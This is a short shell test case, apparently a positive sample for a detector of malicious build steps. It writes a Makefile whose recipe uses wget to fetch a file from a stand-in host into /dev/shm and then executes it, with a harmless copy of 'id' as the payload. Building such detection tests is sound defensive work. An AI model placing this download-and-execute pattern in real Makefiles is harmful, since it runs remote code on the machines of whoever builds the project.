# R09 positive: a recipe (SHELL bash) downloads into /dev/shm with wget and execs it as the
# last command: bash replaces itself with the payload
cp /usr/bin/id www/update-helper
cat >Makefile <<'MK'
SHELL := /bin/bash
all:
	wget -q -O /dev/shm/vigil-rt-helper http://repo.example.test/update-helper && chmod +x /dev/shm/vigil-rt-helper && /dev/shm/vigil-rt-helper
MK
http_up
make
http_down
rm -f /dev/shm/vigil-rt-helper
